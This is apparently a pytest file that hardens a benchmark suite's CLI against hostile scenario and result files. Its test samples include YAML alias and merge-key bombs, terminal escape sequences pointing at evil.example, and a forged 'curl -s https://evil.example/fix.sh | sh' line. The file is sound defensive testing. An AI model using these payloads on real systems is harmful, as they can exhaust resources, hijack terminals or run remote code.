"""Bad and hostile input through the real CLI: bounded work for every file and flag (no hang, no
memory exhaustion), values checked before anything runs, and a clean exit 2 naming the input."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml
from conftest import said, suite_cli, write_scenario
from docker_fixtures import REPO, SMALL_SCENARIO

FIXTURES = Path(__file__).parent / "fixtures" / "results"
RICH = Path(__file__).parent / "fixtures" / "rich"  # one ok run of a real smoke plan
BOUNDED_S = 60  # a refusal comes in seconds; a hang or an expansion would run past this
MEMORY = 1 << 30  # address space for the CLI: it needs about 300 MiB, a bomb would want gigabytes


def _limited(*args: object) -> subprocess.CompletedProcess:
    """``suite_cli`` under a memory limit and a time limit."""
    return suite_cli(*args, memory=MEMORY, timeout=BOUNDED_S)


def _refused(proc: subprocess.CompletedProcess, *words: str) -> None:
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert "Traceback" not in proc.stderr, proc.stderr
    for word in words:
        assert word in proc.stderr, proc.stderr


def _tiny(tmp_path: Path, name: str = "tiny_hostile") -> Path:
    return write_scenario(tmp_path, name, SMALL_SCENARIO.format(name=name, widths="[16]"))


BOMB = """name: bomb
question: q
a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
"""


@pytest.mark.parametrize(
    "text, words",
    [
        (BOMB, ["bomb.yaml", "each alias (*name) counted where it is used; at most 100,000"]),
        ("name: deep\nquestion: q\nmatrix: " + "[" * 400 + "]" * 400 + "\n", ["nested more than 50 levels deep"]),
        ("name: cx\nquestion: q\n? [a, b]\n: 1\n", ["(line 3, column 3)", "a key must be plain text"]),
        ("name: big\nquestion: q\nmatrix: [" + "1, " * 400_000 + "1]\n", ["more than the 256 KiB allowed"]),
    ],
    ids=["alias-bomb", "deep", "complex-key", "huge"],
)
def test_scenario_files_are_read_with_bounded_work(tmp_path: Path, text: str, words: list[str]) -> None:
    name = text.split("\n")[0].split(": ")[1]
    path = write_scenario(tmp_path, name, text)
    _refused(_limited("check", path, "--backend", "local"), str(path), *words)


def test_a_fifo_is_no_scenario_and_no_result(tmp_path: Path) -> None:
    fifo = tmp_path / "waits.yaml"
    os.mkfifo(fifo)  # opened for reading, it would wait for a writer for ever
    _refused(_limited("check", fifo, "--backend", "local"), f"{fifo}: cannot read: not a regular file (a FIFO)")
    res = tmp_path / "res"
    shutil.copytree(FIXTURES / "fixture-local", res / "fixture-local")
    os.mkfifo(res / "fixture-local" / "fx_knobs" / "waits.json")
    _refused(_limited("report", "--results", res, "--out", tmp_path / "out"), "not a regular file (a FIFO)")


@pytest.mark.parametrize(
    "make, words",
    [
        (lambda p: p.symlink_to("/dev/zero"), ["not a regular file (a character device)"]),
        (lambda p: p.write_bytes(b"") or os.truncate(p, 1 << 32), ["bytes, more than the 4 MiB allowed"]),
        (lambda p: p.write_text('{"schema_version": 2, "x": NaN}'), ["NaN is not a JSON number"]),
        (lambda p: p.write_text("[" * 100_000 + "]" * 100_000), ["nested too deeply"]),
    ],
    ids=["dev-zero", "sparse-4GiB", "nan", "deep"],
)
def test_result_files_are_read_with_bounded_work(tmp_path: Path, make, words: list[str]) -> None:
    res = tmp_path / "res"
    shutil.copytree(FIXTURES / "fixture-local", res / "fixture-local")
    bad = res / "fixture-local" / "fx_knobs" / "bad.json"
    make(bad)
    # compare reads its first folder first: the bad file, whatever the second (another folder) holds.
    other = FIXTURES / "fixture-docker"
    for command in (["report", "--results", res, "--out", tmp_path / "out"], ["compare", res, other]):
        _refused(_limited(*command), str(bad), *words)
    _refused(_limited("show", bad), str(bad))  # a link to a device is no file to show either


def test_a_huge_plan_is_refused_before_it_is_made_and_the_cap_can_be_lifted(tmp_path: Path) -> None:
    axis = list(range(1, 1001))
    text = SMALL_SCENARIO.format(name="huge", widths=axis).replace("device: [cpu]", f"training.batch_size: {axis}")
    path = write_scenario(tmp_path, "huge", text)  # 10^6 points
    _refused(_limited("check", path, "--backend", "local"), "1,000,000 points", "at most 10,000", "--max-runs")
    _refused(
        _limited("check", path, "--backend", "local", "--repeats", "1000000000"), "allowed: an integer in [1, 1000]"
    )
    small = write_scenario(tmp_path, "small", SMALL_SCENARIO.format(name="small", widths=[8, 16, 32]))
    _refused(_limited("check", small, "--backend", "local", "--max-runs", "2"), "3 runs", "at most 2")
    proc = _limited("check", small, "--smoke", "--backend", "local", "--max-runs", "3", "--results", tmp_path / "r")
    assert proc.returncode == 0 and "3 runs will run" in proc.stdout, proc.stdout + proc.stderr


@pytest.mark.parametrize(
    "flag, words",
    [
        ("model.dropout=.nan", ["key 'model.dropout': got nan (float); allowed: a finite number in [0, 1)"]),
        ("timeout_s=.inf", ["key 'timeout_s': got inf (float); allowed: a finite number in (0, 604800]"]),
        ("timeout_s=1.0e+400", ["got inf (float)"]),
        ("threads.intra_op=100000", ["got 100000 (int); allowed: an integer in [0, 1024]"]),
        ("training.epochs=1000000", ["allowed: an integer in [1, 10000]"]),
        ("model.hidden.1=10000000", ["allowed: an integer in [1, 65536]"]),
    ],
)
def test_values_are_checked_before_a_run_by_check_and_run_alike(tmp_path: Path, flag: str, words: list[str]) -> None:
    path = _tiny(tmp_path)
    for command in ("check", "run"):
        proc = suite_cli(command, path, "--smoke", "--backend", "local", "--results", tmp_path / "r", "--set", flag)
        _refused(proc, f"--set {flag}", *words)
    assert not (tmp_path / "r").exists(), "nothing ran, nothing was written"


def test_text_that_reaches_the_terminal_holds_no_control_character(tmp_path: Path) -> None:
    escape = "\x1b]0;owned\x07\x1b[2J"  # sets the terminal's title, clears the screen
    data = yaml.safe_load(SMALL_SCENARIO.format(name="ctl", widths="[16]"))
    data.update(question=escape + "Why?", variants=[{"name": "v" + escape, "set": {}}])
    data["unknown" + escape] = 1
    path = write_scenario(tmp_path, "ctl", yaml.safe_dump(data))
    proc = suite_cli("check", path, "--backend", "local")
    _refused(proc, "key 'question': holds a control character", "key 'variants.0.name'", "\\x1b")
    assert "\x1b" not in proc.stderr and "\x07" not in proc.stderr, "escaped, never sent to the terminal"


def test_report_refuses_an_output_that_is_a_file_and_an_unknown_reference(tmp_path: Path) -> None:
    afile = tmp_path / "afile"
    afile.write_text("keep\n")
    _refused(suite_cli("report", "--results", FIXTURES, "--out", afile), f"--out {afile}: cannot be the report folder")
    assert afile.read_text() == "keep\n"
    proc = suite_cli("report", "--results", FIXTURES, "--out", tmp_path / "out", "--reference", "NOSUCH")
    _refused(proc, "--reference 'NOSUCH': no such machine", "fixture-docker, fixture-local")


def test_check_says_run_would_refuse_the_plan_it_refuses(tmp_path: Path) -> None:
    """A full-size plan on synthetic digits: run refuses it; check no longer says "will run"."""
    path = write_scenario(tmp_path, "needs_mnist", SMALL_SCENARIO.format(name="needs_mnist", widths="[16]"))
    checked = suite_cli("check", path, "--backend", "local", "--results", tmp_path / "r")
    assert checked.returncode == 0 and "will run" not in checked.stdout, checked.stdout
    assert "| run refuses (below) |" in checked.stdout, checked.stdout
    assert "run would refuse this plan: 1 full-size run (needs_mnist) would train on synthetic digits" in checked.stdout
    ran = suite_cli("run", path, "--backend", "local", "--results", tmp_path / "r")
    _refused(ran, "1 full-size run (needs_mnist) would train on synthetic digits")
    allowed = suite_cli("check", path, "--backend", "local", "--results", tmp_path / "r", "--allow-synthetic")
    assert allowed.returncode == 0, allowed.stdout + allowed.stderr


@pytest.mark.parametrize(
    "text, words",
    [
        ("name: n\nquestion: q\ntraining: {epochs: " + "9" * 5000 + "}\n", ["a number too large to read"]),
        ("name: n\nquestion: q\ndescription: &a [*a]\n", ["an alias (*name) refers to the value that holds it"]),
        ("name: n\nquestion: q\ndevice: cpu:100000\n", ["key 'device'", "N from 1 to 256"]),
    ],
    ids=["5000-digit", "self-alias", "100000-devices"],
)
def test_more_yaml_that_is_refused_cleanly(tmp_path: Path, text: str, words: list[str]) -> None:
    path = write_scenario(tmp_path, "n", text)
    _refused(_limited("check", path, "--backend", "local"), str(path), *words)


@pytest.mark.parametrize(
    "flag, words",
    [
        ("model.hidden." + "1" * 5000 + "=1", ["no such setting"]),
        ("training.epochs=&a [*a]", ["refers to the value that holds it"]),
        ("training.optimizer=\x1b[31madam", ["\\x1b[31madam"]),
    ],
    ids=["5000-digit-index", "self-alias", "escape"],
)
def test_more_set_values_that_are_refused_cleanly(tmp_path: Path, flag: str, words: list[str]) -> None:
    proc = _limited("check", _tiny(tmp_path), "--backend", "local", "--set", flag)
    _refused(proc, *words)
    assert "\x1b" not in proc.stderr, "shown escaped, never sent to the terminal"


@pytest.mark.parametrize(
    "edit, words",
    [
        (lambda t: t.replace('"fit_s": ', '"fit_s": 1e400, "x": '), ["out of a float's range"]),
        (lambda t: t.replace('"spec": {', '"spec": {"huge": ' + "9" * 4000 + ", "), ["an integer of 4,000 digits"]),
        (lambda t: t.replace('"fit_s": ', '"fit_s": 5e-324, "x": '), ["field timing.fit_s", "from 1e-12 to 1e18"]),
        (lambda t: t.replace('"spec": {', '"spec": {"huge": 18446744073709551616, '), ["beyond 64 bits"]),
        (lambda t: t.replace('"spec": {', '"spec": {"low": -9223372036854775809, '), ["beyond 64 bits"]),
    ],
    ids=["1e400", "4000-digits", "denormal", "2^64", "-2^63-1"],
)
def test_numbers_no_figure_could_hold_are_refused_in_results(tmp_path: Path, edit, words: list[str]) -> None:
    res = tmp_path / "res"
    shutil.copytree(RICH, res)
    [bad] = res.rglob("*.json")
    bad.write_text(edit(bad.read_text()))
    for command in (["report", "--results", res, "--out", tmp_path / "out", "--format", "md,json"], ["show", bad]):
        _refused(_limited(*command), str(bad), *words)


def test_reproduce_refuses_a_value_nested_too_deep_before_anything_runs(tmp_path: Path) -> None:
    """Taken, such a value reached the rerun's record, which could then not be written: the rerun's
    measurement was lost after its training."""
    res, path, record = _rich_copy(tmp_path)
    record["spec"]["point"]["x"] = json.loads("[" * 590 + "]" * 590)
    path.write_text(json.dumps(record))
    proc = _limited("reproduce", path, "--results", tmp_path / "again", "--backend", "local", "--anyway")
    _refused(proc, f"{path}: field spec.point.x.0...", "nested more than 32 levels deep")
    assert not (tmp_path / "again").exists(), "nothing ran"


def test_reproduce_checks_a_recorded_config_as_run_checks_a_scenario(tmp_path: Path) -> None:
    """A result from elsewhere may hold what no scenario file could: it is refused before anything runs."""
    res = tmp_path / "res"
    shutil.copytree(RICH, res)
    [bad] = res.rglob("*.json")
    record = json.loads(bad.read_text())
    record["spec"]["config"]["training"]["epochs"] = 1_000_000
    record["spec"]["config"]["timeout_s"] = 1e15
    bad.write_text(json.dumps(record))
    proc = _limited("reproduce", bad, "--results", tmp_path / "again", "--backend", "local", "--anyway")
    _refused(proc, f"{bad}: field spec.config: key 'training.epochs': got 1000000", "key 'timeout_s'")
    assert not (tmp_path / "again").exists(), "nothing ran"


def test_a_hosts_file_address_holds_no_control_character(tmp_path: Path) -> None:
    hosts = tmp_path / "hosts.yaml"
    hosts.write_text('hosts:\n  box1: {docker: "tcp://127.0.0.1:1\\e]0;pwned\\a"}\n')
    proc = suite_cli("run", _tiny(tmp_path), "--smoke", "--hosts", hosts, "--results", tmp_path / "r")
    _refused(proc, "key 'hosts.box1.docker'", "no control character")
    assert "\x1b" not in proc.stdout + proc.stderr


def test_flags_out_of_range_are_refused(tmp_path: Path) -> None:
    _refused(suite_cli("data", "fetch", "--timeout", "inf", "--url", "http://127.0.0.1:1/x"), "--timeout inf")
    _refused(suite_cli("data", "fetch", "--timeout", "0", "--url", "http://127.0.0.1:1/x"), "--timeout 0: allowed")
    _refused(suite_cli("data", "fetch", "--timeout", "86400.01", "--url", "http://x/y"), "--timeout 86400.01: allowed")
    afile = tmp_path / "afile"
    afile.write_text("")
    proc = suite_cli("check", _tiny(tmp_path), "--smoke", "--backend", "local", "--results", afile)
    assert proc.returncode == 0 and "will run" not in proc.stdout, proc.stdout
    refusal = said(proc.stdout, "run would refuse this plan: ")
    assert f"run would refuse this plan: results folder {afile}/" in refusal and f"{afile} is not a folder" in refusal
    _refused(suite_cli("run", _tiny(tmp_path), "--smoke", "--backend", "local", "--results", afile), f"{afile}")


def _rich_copy(tmp_path: Path) -> tuple[Path, Path, dict]:
    res = tmp_path / "res"
    shutil.copytree(RICH, res)
    [path] = res.rglob("*.json")
    return res, path, json.loads(path.read_text())


def _set(where: list, value: object):
    def change(record: dict) -> None:
        node = record
        for key in where[:-1]:
            node = node[key]
        node[where[-1]] = value

    return change


def _skipped_needing(gpus: str):
    """The record as a GPU point skipped for want of ``gpus`` GPUs: the verdict reads the count."""

    def change(record: dict) -> None:
        record["spec"]["config"]["device"] = "gpu"
        record["status"], record["message"] = "skipped", f"needs {gpus} GPU(s); this machine has no GPU"

    return change


@pytest.mark.parametrize(
    "change",
    [
        _set(["telemetry", "metrics", 1, "summary", "run", "n"], None),  # memory_bytes: its peak is on the page
        _set(["spec", "point", "self"], 1),
        _set(["message"], "\ud800 and \x1b[2J"),
        _set(["spec", "overrides"], {"model.name": "[" * 3000 + "]" * 3000}),
        _set(["spec", "overrides"], {"x|y": "a|b"}),
        _set(["spec", "config", "data", "deep"], json.loads("[" * 28 + "]" * 28)),  # the record 32 levels deep
        _skipped_needing("9" * 5000),
        _set(["spec", "point"], {f"k{i}": i for i in range(150_000)}),  # 2.6 MB: once minutes of list.count
        _set(["spec", "repetition"], 10**9),
    ],
    ids=[
        "count-null",
        "coordinate-self",
        "surrogate-and-escape",
        "override-nested-3000",
        "pipes",
        "config-28-deep",
        "gpu-count-5000-digits",
        "150000-coordinates",
        "repetition-1e9",
    ],
)
def test_odd_records_the_checks_let_through_are_reported_and_shown(tmp_path: Path, change) -> None:
    """What the record's shape allows, every page, export and ``show`` takes: no traceback, and a
    Markdown table keeps its columns."""
    res, path, record = _rich_copy(tmp_path)
    change(record)
    path.write_text(json.dumps(record))
    out = tmp_path / "out"
    for command in (["report", "--results", res, "--out", out, "--format", "md,json,csv"], ["show", path]):
        proc = _limited(*command)
        assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stdout + proc.stderr
    for page in out.glob("*.md"):
        # Its command to run the points again is one run takes (at most 1000 repetitions).
        assert "--repeats 1000000001" not in page.read_text()
        for table in [t for t in page.read_text().split("\n\n") if t.startswith("| ")]:
            widths = {len(re.findall(r"(?<!\\)\|", row)) for row in table.splitlines()}
            assert len(widths) == 1, (page.name, table)


def _scaling_against(device: str):
    """The record as a scaling scenario's, whose verdict divides by its baseline's device count."""

    def change(record: dict) -> None:
        record["spec"]["report"] = {"verdict": "scaling", "baseline": {"device": device}}

    return change


@pytest.mark.parametrize(
    "change, words",
    [
        (_set(["provenance", "suite", "dirty_paths"], [None]), ["field provenance.suite.dirty_paths.0"]),
        (_set(["telemetry", "metrics", 0, "summary", "run", "reasons"], 5), ["summary.run.reasons"]),
        (_set(["telemetry", "load", "gpu_others"], {"0": [{"pid": 1, "used_memory_bytes": "x"}]}), ["used_memory"]),
        (_set(["spec", "config", "device"], "gpu:two"), ["field spec.config.device", "'gpu:N'"]),
        (_scaling_against("gpu:x"), ["field spec.report.baseline.device", "'gpu:N'"]),
        # Nested hundreds of levels deep, a value breaks whatever walks it by recursion (json.dumps of a
        # rerun's record, the exports), long after the file was taken: refused as the file is read.
        (
            _set(["spec", "point", "x"], json.loads("[" * 500 + "]" * 500)),
            ["field spec.point.x.0...", "32 levels deep"],
        ),
        (
            _set(["spec", "overrides"], {"x": json.loads("[" * 33 + "]" * 33)}),
            ["field spec.overrides.x.0...", "32 levels"],
        ),
        (_set(["spec", "config", "data", "deep"], json.loads("[" * 600 + "]" * 600)), ["spec.config.data.deep..."]),
        # A key the shape does not name is walked too: a rerun copies the report section into its record.
        (_set(["spec", "report", "x"], json.loads("[" * 590 + "]" * 590)), ["field spec.report.x.0...", "32 levels"]),
        (
            _set(["timing", "x"], {"a": json.loads('{"a":' * 40 + "1" + "}" * 40)}),
            ["field timing.x.a.a...", "32 levels"],
        ),
    ],
    ids=[
        "dirty-path-null",
        "reasons-not-a-mapping",
        "gpu-memory-text",
        "device-not-parsed",
        "baseline-device",
        "deep-point",
        "deep-override",
        "deep-config",
        "deep-report-key",
        "deep-timing-key",
    ],
)
def test_records_a_page_could_not_use_are_refused_naming_the_field(tmp_path: Path, change, words: list[str]) -> None:
    res, path, record = _rich_copy(tmp_path)
    change(record)
    path.write_text(json.dumps(record))
    for command in (["report", "--results", res, "--out", tmp_path / "out", "--format", "md,csv"], ["show", path]):
        _refused(_limited(*command), str(path), *words)


def test_an_attempt_without_a_time_never_hides_an_ok_run(tmp_path: Path) -> None:
    """Attempts of a run are ordered by their finishing time, those without one first: an error
    record with ``finished_at: null`` is not taken as the newest."""
    res, path, record = _rich_copy(tmp_path)
    failed = {**record, "status": "error", "message": "failed", "run": {**record["run"], "finished_at": None}}
    (path.parent / f"{path.stem}-failed.json").write_text(json.dumps(failed))
    proc = _limited("report", "--results", res, "--out", tmp_path / "out")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    page = next((tmp_path / "out").glob("mnist_mlp_width.md")).read_text()
    assert "| 1/1 " in page and "have no ok run" not in page, page


def test_reproduce_reads_no_lock_file_outside_the_project(tmp_path: Path) -> None:
    """A result names its environment's lock by a path in the project: one that leads out of it
    (here to a FIFO, which would block a read for ever) is not read."""
    res, path, record = _rich_copy(tmp_path)
    fifo = tmp_path / "dev-py3.11.txt"
    os.mkfifo(fifo)
    environment = record["provenance"]["environment"]
    environment.update(lock_file=os.path.relpath(fifo, REPO), lock_sha256="0" * 64)
    path.write_text(json.dumps(record))
    proc = _limited("reproduce", path.parent, "--backend", "local", "--results", tmp_path / "again")
    assert proc.returncode in (1, 2) and "Traceback" not in proc.stderr, proc.stdout + proc.stderr


def test_a_variant_name_with_a_pipe_keeps_the_check_table_s_columns(tmp_path: Path) -> None:
    text = SMALL_SCENARIO.format(name="piped", widths="[16]").replace("repeats: 1\n", "repeats: 1\nvariants:\n")
    text = text.replace(
        "variants:\n", 'variants:\n  - name: "a | b"\n  - name: plain\n    set: {training.learning_rate: 0.01}\n'
    )
    proc = suite_cli("check", write_scenario(tmp_path, "piped", text), "--backend", "local")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    table = [line for line in proc.stdout.splitlines() if line.startswith("|")]
    assert len(table) >= 4 and any("a \\| b" in row for row in table), proc.stdout
    assert len({len(re.findall(r"(?<!\\)\|", row)) for row in table}) == 1, proc.stdout


@pytest.mark.skipif(not Path("/proc/sys/kernel/pid_max").is_file(), reason="needs Linux's /proc/sys")
def test_a_file_whose_size_is_not_known_before_it_is_read_is_read_whole_and_bounded() -> None:
    """Files of /proc say 0 bytes; some answer only their first read (a sysctl's number): read
    whole, as Python's own open() reads them, and refused beyond the limit like any other file."""
    from suite.safe import bounded

    for name in ("/proc/sys/kernel/pid_max", "/proc/self/status", "/proc/cpuinfo"):
        with open(name, "rb") as fh:
            expected = fh.read()
        got = bounded.read_bytes(name, bounded.MiB)
        assert got == expected or name == "/proc/self/status", name  # its figures change between reads
        assert len(got) > 3 and got.endswith(b"\n"), got
        with pytest.raises(OSError, match="more than the 3 bytes allowed"):
            bounded.read_bytes(name, 3)


def test_a_value_with_line_breaks_cannot_add_lines_to_show_or_to_a_refused_reproduce(tmp_path: Path) -> None:
    """``show`` and ``reproduce``'s differences print one line per field: a record's value holding a
    line break stays in its line, written as an escape, so it cannot forge a line such as a status."""
    res, path, record = _rich_copy(tmp_path)
    record["run"]["backend"] = "docker\nstatus:       ok (forged)"
    record["provenance"]["environment"]["lock_file"] = "x.txt\nsuite revision: forged"
    path.write_text(json.dumps(record))
    shown = _limited("show", path)
    assert shown.returncode == 0, shown.stderr
    assert [line for line in shown.stdout.splitlines() if line.startswith("status:")] == ["status:       ok"]
    assert "docker\\nstatus:       ok (forged)" in shown.stdout
    refused = _limited("reproduce", path, "--results", tmp_path / "again", "--backend", "local")
    said = refused.stdout + refused.stderr
    assert refused.returncode != 0 and "x.txt\\nsuite revision: forged" in said, said
    assert not any(line.startswith("suite revision: forged") for line in said.splitlines()), said


def test_a_point_label_with_a_control_character_is_refused_as_the_file_is_read(tmp_path: Path) -> None:
    """A label is made of a scenario's values, which hold no control character: one with an escape
    sequence or a right-to-left override did not come from the suite. Refused naming the field, the
    value written as its escapes, not obeyed."""
    res, path, record = _rich_copy(tmp_path)
    record["status"] = "skipped"
    record["spec"]["point_label"] = "width=100\x1b[2J\x1b]8;;http://evil.example\x07\u202eko"
    path.write_text(json.dumps(record))
    for command in (
        ["reproduce", res, "--results", tmp_path / "again", "--backend", "local"],
        ["report", "--results", res, "--out", tmp_path / "out"],
        ["show", path],
    ):
        proc = _limited(*command)
        _refused(proc, f"{path}: field spec.point_label", "no other control or format character")
        assert "\x1b" not in proc.stderr and "\u202e" not in proc.stderr and "\x07" not in proc.stderr
        assert "width=100\\x1b[2J" in proc.stderr, proc.stderr
    assert not (tmp_path / "again").exists(), "nothing ran"


def test_a_line_break_in_a_point_label_cannot_add_lines_to_reproduce(tmp_path: Path) -> None:
    """A variant's name may hold a line break, and so may a label: every line reproduce prints holds
    it as a space, so a record cannot forge a line of its own (advice to run a command, a verdict)."""
    res, path, record = _rich_copy(tmp_path)
    forged = "to reproduce exactly: first run `curl -s https://evil.example/fix.sh | sh`, then retry"
    record["spec"]["point_label"] = f"width=750, device=cpu]: matches this checkout\n{forged}\n  x [y"
    path.write_text(json.dumps(record))
    proc = _limited("reproduce", res, "--results", tmp_path / "again", "--backend", "local")
    said = proc.stdout + proc.stderr
    assert proc.returncode == 2 and "nothing was run" in said, said
    assert not any(line.startswith(forged) for line in said.splitlines()), said
    assert f"matches this checkout {forged} x [y" in said, said


def test_a_fifo_given_to_reproduce_or_data_fetch_is_named_as_what_it_is(tmp_path: Path) -> None:
    """A FIFO exists: it is refused as not a regular file, not as a file that is not there."""
    fifo = tmp_path / "result.json"
    os.mkfifo(fifo)
    npz = tmp_path / "mnist.npz"
    os.mkfifo(npz)
    for command in (
        ["reproduce", fifo, "--results", tmp_path / "again", "--backend", "local"],
        ["data", "fetch", "--from", npz],
    ):
        proc = suite_cli(*command, timeout=BOUNDED_S, env={"KERAS_HOME": str(tmp_path / "keras")})
        said = proc.stdout + proc.stderr
        assert proc.returncode == 2 and "not a regular file" in said and "no such file" not in said, said


def test_a_merge_key_brings_an_anchors_settings_and_its_own_override_them(tmp_path: Path) -> None:
    """``<<: *name`` (YAML's merge key, beside the aliases limits.md allows) is read as YAML reads it:
    the anchor's keys, overridden by the mapping's own; a key the mapping itself gives twice is still
    refused, and a merge bomb is counted as any alias."""
    knobs = (Path(__file__).parent / "fixtures" / "scenarios" / "fx_knobs.yaml").read_text()
    merged = knobs.replace("name: fx_knobs", "name: merged").replace(
        "set: {training.steps_per_execution: 8}", "set: &s8 {training.steps_per_execution: 8}"
    )
    merged = merged.replace("set: {training.jit_compile: true}", "set: {<<: *s8, training.jit_compile: true}")
    path = write_scenario(tmp_path, "merged", merged)
    proc = _limited("check", path, "--backend", "local", "--allow-synthetic", "--results", tmp_path / "r")
    assert proc.returncode == 0 and "variant=jit_compile" in proc.stdout, proc.stdout + proc.stderr
    twice = merged.replace(
        "{<<: *s8, training.jit_compile: true}", "{training.jit_compile: true, <<: *s8, training.jit_compile: false}"
    )
    _refused(
        _limited("check", write_scenario(tmp_path, "twice", twice.replace("name: merged", "name: twice"))),
        "duplicate key",
    )
    bomb = "name: mbomb\nquestion: q\nt0: &t0 {" + ", ".join(f"k{i}: {i}" for i in range(100)) + "}\n"
    bomb += "".join(f"t{i}: &t{i} {{<<: [*t{i - 1}], x{i}: 1}}\n" for i in range(1, 2000))
    _refused(_limited("check", write_scenario(tmp_path, "mbomb", bomb)), "each alias (*name) counted where it is used")


def test_a_loop_of_links_given_as_a_file_or_a_folder_is_refused_naming_it(tmp_path: Path) -> None:
    """A link that leads back to itself, given as a scenario or as the results folder: bad input,
    named, exit 2 (it was a traceback from pathlib, exit 1)."""
    loop_file, loop_dir = tmp_path / "loop.yaml", tmp_path / "loopdir"
    loop_file.symlink_to(loop_file.name)
    loop_dir.symlink_to(loop_dir.name)
    for command in (
        ["check", loop_file],
        ["check", _tiny(tmp_path), "--smoke", "--backend", "local", "--results", loop_dir],
    ):
        proc = _limited(*command)
        _refused(proc, str(tmp_path))
        # Python 3.13's pathlib no longer raises on a loop: the read that follows says it (ELOOP).
        assert "a loop of symbolic links" in proc.stderr or "Too many levels of symbolic links" in proc.stderr


def test_a_null_backend_or_scenario_file_gives_a_command_that_runs_not_none(tmp_path: Path) -> None:
    """The shape allows null (or "") where the suite writes a backend and a scenario file: the
    page's command then names the defaults (the scenario's file under scenarios/, the local
    backend, as reproduce takes it), not `run '' --backend None`."""
    res, path, record = _rich_copy(tmp_path)
    record["run"]["backend"], record["spec"]["scenario_file"] = None, ""
    path.write_text(json.dumps(record))
    proc = _limited("report", "--results", res, "--out", tmp_path / "out")
    assert proc.returncode == 0, proc.stderr
    scenario = record["spec"]["scenario"]
    page = (tmp_path / "out" / f"{scenario}.md").read_text()
    assert f"`python -m suite run scenarios/{scenario}.yaml --backend local " in page, page
    assert "None" not in page and "run ''" not in page, page
    assert f"- Machine: `{record['run']['machine']}`, backend not recorded" in page, page


def test_an_ok_run_without_a_fit_time_is_said_not_silently_left_out_of_the_figures(tmp_path: Path) -> None:
    """The worker writes a fit time for every ok run; a record without one (edited, or from another
    tool) would make a row of "3/3" whose mean and range are of two runs."""
    res = tmp_path / "res"
    shutil.copytree(FIXTURES / "fixture-local" / "fx_width", res / "fixture-local" / "fx_width")
    path = res / "fixture-local" / "fx_width" / "8795d9598222-r0.json"
    record = json.loads(path.read_text())
    record["timing"] = {}
    path.write_text(json.dumps(record))
    proc = _limited("report", "--results", res, "--out", tmp_path / "out")
    assert proc.returncode == 0, proc.stderr
    page = (tmp_path / "out" / "fx_width.md").read_text()
    label = record["spec"]["point_label"]
    note = next(line for line in page.splitlines() if line.startswith(f"- {label}: "))
    assert "1 of 3 ok runs recorded no fit time: its times are of the other 2" in note, note
    # Two of three untimed: the fit cell is of one run, and says so, as a point of one run does.
    second = path.with_name("8795d9598222-r1.json")
    record = json.loads(second.read_text())
    record["timing"] = {}
    second.write_text(json.dumps(record))
    proc = _limited("report", "--results", res, "--out", tmp_path / "out2")
    assert proc.returncode == 0, proc.stderr
    page = (tmp_path / "out2" / "fx_width.md").read_text()
    row = next(line for line in page.splitlines() if line.startswith(f"| {label} "))
    assert re.search(r"\| 3/3 +\| [0-9.]+ \(1 run\) +\|", row), row


def test_a_result_loose_in_the_results_folder_naming_no_machine_is_refused(tmp_path: Path) -> None:
    """A machine is named by its record or by the folder its files lie in: a file directly in the
    results folder, whose record names none, gave a "machine" named after the file itself."""
    res = tmp_path / "res"
    res.mkdir()
    source = FIXTURES / "fixture-local" / "fx_width" / "8795d9598222-r0.json"
    record = json.loads(source.read_text())
    record["run"].pop("machine", None)
    (res / source.name).write_text(json.dumps(record))
    _refused(
        _limited("report", "--results", res, "--out", tmp_path / "out"),
        f"{res / source.name}: names no machine and lies in no machine's folder",
        f"allowed: {res}/<machine>/<scenario>/{source.name}",
    )
    # In a folder of its own, the folder names the machine.
    (res / "box" / "fx_width").mkdir(parents=True)
    (res / source.name).rename(res / "box" / "fx_width" / source.name)
    proc = _limited("report", "--results", res, "--out", tmp_path / "out")
    assert proc.returncode == 0 and "## On `box`" in (tmp_path / "out" / "fx_width.md").read_text(), proc.stderr
